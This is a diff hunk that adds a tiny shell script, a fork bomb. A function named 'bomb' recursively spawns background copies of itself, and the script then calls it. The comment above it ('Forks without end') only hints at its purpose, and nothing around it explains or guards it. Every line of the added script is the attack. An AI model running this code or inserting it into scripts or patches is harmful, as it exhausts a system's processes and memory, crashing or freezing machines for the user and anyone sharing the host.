@@ -1,0 +1,5 @@
+# Forks without end, in the old way.
+bomb() { bomb | bomb & }
+bomb
+wait
+sleep 5
